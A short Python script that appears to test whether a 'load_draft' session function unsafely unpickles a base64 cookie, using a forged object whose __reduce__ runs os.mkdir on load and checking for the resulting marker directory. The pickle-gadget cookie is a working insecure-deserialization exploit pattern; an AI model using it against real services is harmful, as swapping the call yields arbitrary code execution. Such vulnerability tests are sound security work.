"""The cookie of the draft is loaded in the same way."""

import base64
import os
import pickle
import sys
from contextlib import suppress
from pathlib import Path

from sessions import load_draft


class Forged:
    """Pickles as a call."""

    def __reduce__(self):
        return os.mkdir, ("marker",)


cookie = base64.urlsafe_b64encode(pickle.dumps(Forged())).decode()
with suppress(ValueError, PermissionError, pickle.UnpicklingError):
    load_draft(cookie)
sys.exit(0 if Path("marker").exists() else 1)
